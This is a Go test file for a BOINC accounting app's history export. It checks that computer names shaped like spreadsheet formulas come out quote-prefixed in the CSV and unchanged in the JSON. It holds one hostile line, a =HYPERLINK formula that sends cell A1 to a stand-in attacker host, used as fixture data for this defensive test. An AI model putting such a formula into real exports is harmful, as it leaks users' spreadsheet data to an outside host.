package web_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/cobble-am/cobble/accounting"
	"github.com/cobble-am/cobble/accounting/demodata"
)

// A computer named like a spreadsheet formula (its BOINC client's
// domain_name is whatever the client says) reaches the CSV as text with a
// leading ', and the JSON exactly as it is; number cells are untouched.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	const hostile = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	u := e.user("eve@example.org", "eve-password")
	p := e.project(accounting.Project{URL: "https://one.example.org/", Name: "One"})
	today := e.store.Ledger.Today(time.Now(), "UTC")
	spec := demodata.Spec{UserID: u.ID, Projects: []int64{p.ID}, Days: 3, End: today,
		Computers: []demodata.Computer{{Name: hostile, NCPUs: 2, PFPOps: 1e9, ClientVersion: "7.20.5"},
			{Name: "-plain-minus", NCPUs: 2, PFPOps: 1e9, ClientVersion: "7.20.5"}}}
	if _, err := demodata.Seed(context.Background(), e.pool, spec); err != nil {
		t.Fatal(err)
	}
	c := e.session(t, "eve@example.org", "eve-password")
	status, body, _ := do(t, c, "GET", e.http.URL+"/export/history.csv", nil, nil)
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if status != 200 || err != nil || len(rows) != 1+2*3 {
		t.Fatalf("CSV: status %d, %v, %d rows", status, err, len(rows))
	}
	names := map[string]bool{}
	for _, r := range rows[1:] {
		names[r[2]] = true
		for _, i := range []int{1, 5, 6, 7, 8, 9, 10, 11} {
			if strings.HasPrefix(r[i], "'") {
				t.Errorf("number cell %s = %q was changed", rows[0][i], r[i])
			}
		}
	}
	if !names["'"+hostile] || !names["'-plain-minus"] || len(names) != 2 {
		t.Errorf("CSV computer names %v, want both with a leading '", names)
	}
	if strings.Contains(body, `,"=HYPERLINK`) {
		t.Error("a cell of the CSV begins with =HYPERLINK")
	}
	_, body, _ = do(t, c, "GET", e.http.URL+"/export/history.json", nil, nil)
	var objs []map[string]any
	if err := json.Unmarshal([]byte(body), &objs); err != nil {
		t.Fatal(err)
	}
	seen := map[any]bool{}
	for _, o := range objs {
		seen[o["computer_name"]] = true
	}
	if !seen[hostile] || !seen["-plain-minus"] {
		t.Errorf("JSON computer names %v, want them exactly as the clients sent them", seen)
	}
}
